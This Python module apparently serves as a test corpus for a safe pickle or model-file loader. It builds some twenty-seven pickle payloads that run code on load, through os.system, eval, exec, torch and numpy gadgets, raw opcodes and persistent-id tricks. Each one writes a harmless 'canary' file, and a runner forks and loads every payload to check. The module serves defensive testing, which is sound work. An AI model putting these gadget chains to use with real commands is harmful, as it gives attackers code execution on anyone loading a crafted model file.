"""Pickles that run code when Python's `pickle` loads them: each writes the file `canary` into the working directory.

`PAYLOADS` maps a name to (the pickle's bytes, what the reader's refusal must name). Run as a program, it loads every
one the way its victims would and prints the names of those that sang.
"""

from __future__ import annotations

import codecs
import contextlib
import functools
import io
import os
import pickle
import subprocess
import sys
import tempfile
import time
import timeit
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import torch
from torch import nn

CANARY = "canary"
COMMAND = f"echo sung > {CANARY}"
CODE = f'open("{CANARY}", "w").write("sung")'


class Calls:
    """An object whose pickle calls `function(*args)`; `then` are further values of a reduce tuple."""

    def __init__(self, function: Any, *args: Any, then: tuple[Any, ...] = ()) -> None:
        self.reduced = (function, args, *then)

    def __reduce__(self) -> Any:
        return self.reduced


def saved(content: Any, **options: Any) -> bytes:
    """What torch.save writes."""
    buffer = io.BytesIO()
    torch.save(content, buffer, **options)
    return buffer.getvalue()


def as_zip(payload: bytes) -> bytes:
    """The pickle as the object of a torch zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", payload)
        archive.writestr("archive/version", b"3\n")
    return buffer.getvalue()


def as_legacy(payload: bytes) -> bytes:
    """The pickle as the object of a legacy torch file."""
    head = (torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION, {"little_endian": True})
    return b"".join(pickle.dumps(part, 2) for part in head) + payload + pickle.dumps([], 2)


def _hooked() -> nn.Module:
    net = nn.Linear(3, 784)
    net._forward_pre_hooks[0] = Calls(os.system, COMMAND)  # type: ignore[assignment]
    return net


def _array_file() -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([Calls(os.system, COMMAND)], dtype=object), allow_pickle=True)
    return buffer.getvalue()


_SYSTEM = f"cos\nsystem\n(S'{COMMAND}'\ntR".encode()
_INNER = {"x": Calls(os.system, COMMAND)}
_IMPORT = f"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'{COMMAND}'\ntR."
_GLOBALS = (
    "cbuiltins\ngetattr\n(cbuiltins\ngetattr\n(cbuiltins\ndict\nS'get'\ntR(cbuiltins\nglobals\n)RS'__builtins__'\n"
    f"tRS'eval'\ntR(S'{CODE}'\ntR."
)
_DOTTED = b"\x80\x04\x8c\x08builtins\x8c\x0deval.__call__\x93\x8c" + bytes([len(CODE)]) + CODE.encode() + b"\x85R."
_MODULES = f"csys\nmodules\np0\n0cbuiltins\ndict\n0cos\nsystem\n(S'{COMMAND}'\ntR."


def _reduced(function: Any, *args: Any, **options: Any) -> bytes:
    return pickle.dumps(Calls(function, *args, **options))


PAYLOADS: dict[str, tuple[bytes, str]] = {
    "os.system": (_reduced(os.system, COMMAND), "posix.system"),
    "eval": (_reduced(eval, CODE), "builtins.eval"),
    "exec": (_reduced(exec, CODE), "builtins.exec"),
    "__import__": (_IMPORT.encode(), "builtins.__import__"),
    "getattr chain to globals": (_GLOBALS.encode(), "getattr(builtins.dict, 'get')"),
    "dotted name": (_DOTTED, "builtins.eval.__call__"),
    "sys.modules": (_MODULES.encode(), "sys.modules"),
    "subprocess": (_reduced(subprocess.getoutput, COMMAND), "subprocess.getoutput"),
    "functools.partial": (_reduced(functools.partial(os.system, COMMAND)), "posix.system"),
    "list of map": (_reduced(list, Calls(map, os.system, [COMMAND])), "builtins.map"),
    "timeit": (_reduced(timeit.timeit, CODE, "pass", time.perf_counter, 1), "timeit.timeit"),
    "codecs chain": (_reduced(eval, Calls(codecs.decode, codecs.encode(CODE, "rot13"), "rot13")), "builtins.eval"),
    "torch storage, zip within": (_reduced(torch.storage._load_from_bytes, saved(_INNER)), "not in torch's format"),
    "torch storage, legacy within": (
        _reduced(torch.storage._load_from_bytes, saved(_INNER, _use_new_zipfile_serialization=False)), "posix.system",
    ),
    "torch.load": (
        _reduced(functools.partial(torch.load, weights_only=False), io.BytesIO(saved(_INNER))),
        "torch.serialization.load",
    ),
    "torch.utils": (_reduced(torch.utils.collect_env.run, COMMAND), "torch.utils.collect_env.run"),
    "numpy runstring": (_reduced(np.testing.runstring, CODE, {}), "numpy.testing._private.utils.runstring"),
    "numpy.load": (
        _reduced(functools.partial(np.load, allow_pickle=True), io.BytesIO(_array_file())), "numpy.load",
    ),
    "numpy object array": (pickle.dumps(np.array([Calls(os.system, COMMAND)], dtype=object)), "posix.system"),
    "state setter": (_reduced(str, CODE, then=({}, None, None, eval)), "builtins.eval"),
    "storage type in a persistent id": (b"\x80\x02(S'storage'\n" + _SYSTEM + b"S'0'\nS'cpu'\nK\x01tQ.", "os.system"),
    "storage key in a persistent id": (
        b"\x80\x02(S'storage'\nctorch\nFloatStorage\n" + _SYSTEM + b"S'cpu'\nK\x01tQ.", "os.system",
    ),
    "tensor without storage": (
        _reduced(torch._utils._rebuild_tensor_v2, Calls(os.system, COMMAND), 0, (1,), (1,), False, {}), "posix.system",
    ),
    "INST": (f"(S'{COMMAND}'\nios\nsystem\n.".encode(), "os.system"),
    "OBJ": (f"(cos\nsystem\nS'{COMMAND}'\no.".encode(), "os.system"),
    "a module's hook": (pickle.dumps(_hooked()), "posix.system"),
    "a key": (pickle.dumps({"netG": {Calls(os.system, COMMAND): 1}}), "posix.system"),
}  # fmt: skip


def sings(payload: bytes) -> bool:
    """Whether loading it as a victim would writes the canary. Runs the payload."""
    with tempfile.TemporaryDirectory() as folder:
        child = os.fork()
        if child == 0:
            os.chdir(folder)
            null = os.open(os.devnull, os.O_WRONLY)
            os.dup2(null, 1)
            os.dup2(null, 2)
            with contextlib.suppress(BaseException):
                pickle.loads(payload)
            os._exit(0)
        os.waitpid(child, 0)
        return (Path(folder) / CANARY).exists()


if __name__ == "__main__":
    sys.stdout.write("\n".join(name for name, (payload, _) in PAYLOADS.items() if sings(payload)))
